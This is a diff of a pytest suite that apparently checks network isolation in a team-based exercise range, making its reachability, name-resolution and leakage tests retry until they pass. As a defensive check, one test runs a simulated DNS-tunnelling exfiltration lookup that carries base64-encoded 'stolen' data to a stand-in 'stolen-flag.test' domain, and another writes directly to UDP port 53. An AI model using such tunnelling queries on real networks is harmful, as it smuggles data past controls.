@@ -60,23 +60,33 @@ def served(attacked: Range) -> Range:
 
 def test_another_teams_host_is_out_of_reach(served: Range) -> None:
     theirs = served.address("small", BLUE)
-    assert served.reaches(theirs, PORT, team=BLUE), "the control: their own peer"
-    assert served.reaches(served.address("small"), PORT), "and ours"
+    for team in (BLUE, RED):
+        reaches = partial(served.reaches, served.address("small", team), PORT, team=team)
+        until(reaches, what=f"the control: a peer of {team}", within=SOON)
     assert not served.reaches(theirs, PORT)
 
 
 def test_another_teams_hosts_have_no_names_here(attacked: Range) -> None:
     theirs = (attacked.container("peer", BLUE), f"peer.{BLUE}")
-    found = attacked.said(*ASKING, "ahostsv4", attacked.container("peer"), *theirs)
-    assert set(found.split()) >= {str(attacked.address("peer"))}, "the control"
-    assert str(attacked.address("peer", BLUE)) not in found
+
+    def finds_its_own() -> bool:
+        found = attacked.said(*ASKING, "ahostsv4", attacked.container("peer"), *theirs)
+        assert str(attacked.address("peer", BLUE)) not in found
+        return str(attacked.address("peer")) in found.split()
+
+    until(finds_its_own, what="the control", within=SOON)
 
 
-def test_names_are_the_own_teams(attacked: Range) -> None:
+@pytest.mark.parametrize("team", [RED, BLUE])
+def test_names_are_the_own_teams(attacked: Range, team: str) -> None:
     """Both teams have hosts of the same names."""
-    for team in (RED, BLUE):
-        found = attacked.said("getent", "hosts", "peer.siege.test", team=team).split()[0]
-        assert found == str(attacked.address("peer", team))
+
+    def is_found() -> bool:
+        found = attacked.said("getent", "hosts", "peer.siege.test", team=team).split()
+        assert found[:1] in ([], [str(attacked.address("peer", team))])
+        return bool(found)
+
+    until(is_found, what="the name", within=SOON)
 
 
 def test_nothing_outside_is_reached(
@@ -107,14 +117,26 @@ def test_no_question_tunnels_out_by_the_resolver(
         until(lambda: b"ready" in resolver.logs(), what="the resolver", within=SOON)
         attacked.said("bash", "-c", f"echo direct > /dev/udp/{address}/53")
         until(lambda: b"direct" in resolver.logs(), what="the control: it listens", within=SOON)
-        with ordinary(docker_client, "sleep", "60", network=network, dns=[address]) as careless:
-            careless.exec_run(["timeout", "3", *ASKING, "ahostsv4", "leaks.test"])
-            pause(1)  # until the engine has what the resolver said in its log
-            hands_on = b"leaks" in resolver.logs()
-        tunnelled = ("timeout", "3", *ASKING, "ahostsv4", "c3RvbGVu.stolen-flag.test")
-        assert attacked.attempt(*tunnelled) != "done"
-        assert b"stolen" not in resolver.logs()
-    assert ("stolen" in attacked.said("cat", "/asked")) == hands_on, "to the host itself"
+        with ordinary(docker_client, "sleep", "7200", network=network, dns=[address]) as careless:
+
+            def leaks() -> bool:
+                careless.exec_run(["timeout", "3", *ASKING, "ahostsv4", "leaks.test"])
+                pause(1)  # until the engine has what the resolver said in its log
+                return b"leaks" in resolver.logs()
+
+            # Asked again: a question's time may be over before a busy engine hands it on.
+            hands_on = any(leaks() for _ in range(3))
+
+        def tunnels() -> bool:
+            tunnelled = ("timeout", "3", *ASKING, "ahostsv4", "c3RvbGVu.stolen-flag.test")
+            assert attacked.attempt(*tunnelled) != "done"
+            assert b"stolen" not in resolver.logs()
+            return "stolen" in attacked.said("cat", "/asked")
+
+        if hands_on:
+            until(tunnels, what="the question to be handed to the host itself", within=SOON)
+        else:
+            assert not tunnels()
 
 
 @pytest.fixture(scope="module")
